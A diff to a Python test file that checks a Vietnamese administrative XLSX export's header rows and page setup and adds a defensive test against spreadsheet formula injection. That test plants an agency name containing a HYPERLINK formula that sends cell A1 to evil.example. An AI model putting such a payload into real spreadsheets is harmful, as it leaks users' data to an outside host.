@@ -184,19 +184,40 @@ def test_xlsx_export(client_for, world, leader, district_a, district_b):
     assert response.status_code == 200
     wb = load_workbook(io.BytesIO(response.content), read_only=True)
     assert len(wb.sheetnames) >= 8
+    # Every sheet: the official header block (rows 1-7), the table header on row 8.
     summary = list(wb[wb.sheetnames[0]].iter_rows(values_only=True))
-    values = {row[0]: row[1] for row in summary[4:] if row and row[0]}
+    assert summary[0][2] == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
+    assert summary[1][2] == "Độc lập - Tự do - Hạnh phúc"
+    values = {row[0]: row[1] for row in summary[8:] if row and row[0]}
     assert 1 in values.values()  # one active plan
     compliance = list(wb[wb.sheetnames[2]].iter_rows(values_only=True))
-    header = compliance[3]
+    header = compliance[7]
     assert "Quý I/2025" in header
-    agencies = [row[0] for row in compliance[4:]]
+    agencies = [row[0] for row in compliance[8:]]
     assert agencies[0] == world["obligations"]["q1b"].agency.name
     # Units: what needs attention first (B has a late report), every count of the page.
     units = list(wb[wb.sheetnames[3]].iter_rows(values_only=True))
-    assert [row[0] for row in units[4:]] == [str(district_b), str(district_a)]
-    assert units[4][1:] == (None, 1, 1, 3, 0, 0, 0, 1, 0)
-    assert units[5][1:] == (None, 1, 0, 3, 0, 0, 0, 3, 1)
+    assert [row[0] for row in units[8:]] == [str(district_b), str(district_a)]
+    assert units[8][1:] == (None, 1, 1, 3, 0, 0, 0, 1, 0)
+    assert units[9][1:] == (None, 1, 0, 3, 0, 0, 0, 3, 1)
+    full = load_workbook(io.BytesIO(response.content))
+    sheet = full[full.sheetnames[0]]
+    assert sheet.page_setup.paperSize in (9, "9") and sheet.print_title_rows == "$8:$8"
+    assert sheet["B9"].number_format == "[$-42A]#,##0"
+
+
+def test_xlsx_export_keeps_hostile_names_as_text(client_for, world, leader):
+    from openpyxl import load_workbook
+
+    agency = world["obligations"]["q1b"].agency
+    agency.name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
+    agency.save()
+    response = client_for(leader).get(url("export_xlsx"))
+    wb = load_workbook(io.BytesIO(response.content))
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    hostile = [c for c in cells if c.value == agency.name]
+    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)
 
 
 # ---- query counts
